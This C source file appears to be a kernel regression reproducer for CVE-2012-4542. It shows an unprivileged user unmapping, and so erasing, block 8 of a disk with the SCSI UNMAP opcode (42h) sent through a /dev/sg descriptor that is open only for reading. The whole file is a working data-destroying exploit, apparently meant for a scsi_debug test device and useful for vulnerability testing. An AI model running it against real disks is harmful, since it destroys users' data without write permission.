/* SPDX-License-Identifier: Apache-2.0 */
/*
 * K5: the list of SCSI commands that an ordinary user may send goes by the opcode byte alone, and
 * has 42h as the CD drive's READ SUB-CHANNEL. On a disk 42h is UNMAP: who may open /dev/sg for
 * reading destroys data. Known since 2012 (CVE-2012-4542) and the behaviour of every Linux since.
 * Seen on Linux 6.1.0-56, 6.12.95 and 7.3.4.
 *
 *   k5-scsi-unmap NODE    a disk's /dev/sgN that unmaps (scsi_debug lbpu=1), as root
 *
 * Writes block 8 with one descriptor and unmaps it as an ordinary user with another one that is
 * open for reading: the block's content is lost.
 * Exit status: 0 reproduced, 1 not on this kernel, 2 it could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <scsi/sg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define NOBODY 65534
#define BLOCK  8

static uint8_t data[512];

static int send_cdb(int fd, const uint8_t *cdb, int dir, unsigned size)
{
	uint8_t copy[10], sense[32];
	struct sg_io_hdr h = {
		.interface_id = 'S',
		.dxfer_direction = dir,
		.cmd_len = sizeof(copy),
		.mx_sb_len = sizeof(sense),
		.dxfer_len = size,
		.dxferp = data,
		.cmdp = copy,
		.sbp = sense,
		.timeout = 10000,
	};

	memcpy(copy, cdb, sizeof(copy));
	if (ioctl(fd, SG_IO, &h) < 0)
		return -1;
	errno = EIO;
	return h.status || h.host_status ? -1 : 0;
}

int main(int argc, char **argv)
{
	static const uint8_t write10[10] = {0x2a, [5] = BLOCK, [8] = 1};
	static const uint8_t read10[10] = {0x28, [5] = BLOCK, [8] = 1};
	static const uint8_t unmap[10] = {0x42, [8] = 24}; /* SBC-4 5.35 */
	static const uint8_t range[24] = {0, 22, 0, 16, [15] = BLOCK, [19] = 1};
	int rw, ro, r = -1;

	if (argc != 2 || (rw = open(argv[1], O_RDWR | O_CLOEXEC)) < 0 ||
	    (ro = open(argv[1], O_RDONLY | O_CLOEXEC)) < 0) {
		perror("k5-scsi-unmap NODE, as root");
		return 2;
	}
	memset(data, 0x77, sizeof(data));
	/* The first commands may be answered by what happened since power-on. */
	for (unsigned i = 0; r < 0 && i < 3; i++)
		r = send_cdb(rw, write10, SG_DXFER_TO_DEV, sizeof(data));
	if (r < 0 || setgroups(0, NULL) < 0 || setgid(NOBODY) < 0 || setuid(NOBODY) < 0) {
		perror("K5: could not be tried");
		return 2;
	}
	memcpy(data, range, sizeof(range));
	r = send_cdb(ro, unmap, SG_DXFER_TO_DEV, sizeof(range));
	if (r < 0 && errno == EPERM) {
		(void)printf("K5 not on this kernel: 42h is refused\n");
		return 1;
	}
	if (r < 0 || send_cdb(ro, read10, SG_DXFER_FROM_DEV, sizeof(data)) < 0 || data[0] == 0x77) {
		perror("K5: could not be tried");
		return 2;
	}
	(void)printf("K5 reproduced: an ordinary user unmapped block %d, open for reading\n",
		     BLOCK);
	return 0;
}
